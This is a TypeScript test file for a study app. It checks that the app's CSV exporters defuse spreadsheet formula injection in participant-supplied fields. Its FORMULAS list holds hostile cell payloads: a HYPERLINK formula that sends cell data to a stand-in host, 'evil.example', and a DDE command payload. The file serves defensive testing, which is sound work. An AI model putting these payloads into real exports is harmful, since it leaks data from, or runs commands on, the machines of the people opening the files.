// Formula injection through every CSV export (issue 38 item 3, docs/SECURITY.md "Attacks
// replayed"): a participant's unreadable relation answer (kept word for word), an answerer's
// name and a withdrawal reason reach the experimenter's spreadsheet only as text. Each export
// is written by the one writer (src/shared/analysis/csv.ts; test/lint/csv-writer.test.ts refuses
// another); these cases run the real exporters on hostile rows.
import { describe, expect, it } from 'vitest';
import type { RelationTrialRow } from '../../../src/shared/kinds/relation/api';
import { PARTICIPANTS_TABLE, tableCsv } from '../../../src/shared/study/export-tables';
import { relationCsv } from '../../../src/main/kinds/relation/log-trials';

/** The formula set: every form a spreadsheet evaluates (ASCII and full-width signs, leading spaces, tabs). */
const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', ' =1+1', '\t=1+1', '\uff1d1+1', '+cmd|"/c calc"!A0', '-2+3', '@SUM(A1:A9)', '\u3000=1', '\r=1'];

/** Every cell of a CSV text (RFC 4180 with quotes), unquoted. */
function cells(csv: string): string[] {
  const out: string[] = [];
  const re = /("((?:[^"]|"")*)"|[^,\r\n]*)(,|\r\n|$)/gy;
  let m: RegExpExecArray | null;
  while (re.lastIndex < csv.length && (m = re.exec(csv))) out.push(m[2] !== undefined ? m[2].replace(/""/g, '"') : m[1]);
  return out;
}

/** A cell a spreadsheet would evaluate: a formula sign after blanks (not a plain number), or a leading tab/CR/LF, not defused with a quote. */
const dangerous = (c: string): boolean => !c.startsWith("'") && (/^[\t\r\n]/.test(c) || (/^[\s\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(c) && !/^[+-]?\d+(\.\d+)?$/.test(c)));

function expectDefused(csv: string): void {
  expect(cells(csv).filter(dangerous)).toEqual([]);
}

describe('every CSV export neutralises the formula set', () => {
  it('relation trials: an unreadable answer and an answerer name', () => {
    const rows: RelationTrialRow[] = FORMULAS.map((f, i) => ({
      who: 'human', answerer: f, taskId: 'relation__t', trial: i + 1, environment: 'forest', triple: 'a', task: 'ego', truth: 'left',
      answer: null, correct: false, rtMs: 100, confidence: null, catch: false, timedOut: false, unparsed: f, serverMs: 3,
    }));
    const csv = relationCsv(rows);
    expectDefused(csv);
    for (const f of FORMULAS) expect(cells(csv)).toContain(`'${f}`);
  });

  it('study archive tables: a withdrawal reason', () => {
    const row = Object.fromEntries(PARTICIPANTS_TABLE.columns.map((c) => [c.name, null]));
    const rows = FORMULAS.map((f) => new Proxy(row, { get: (_t, k) => (k === 'withdrawalReason' || k === 'participant' ? f : null) }));
    const csv = tableCsv(PARTICIPANTS_TABLE, rows as never[]);
    expectDefused(csv);
    for (const f of FORMULAS) expect(cells(csv)).toContain(`'${f}`);
  });

  it('the check itself sees an undefended cell', () => {
    expect(() => expectDefused('a,=1+1\r\n')).toThrow();
    expect(() => expectDefused('a," =1"\r\n')).toThrow();
    expect(() => expectDefused('a,-12.5\r\n')).not.toThrow();
  });
});
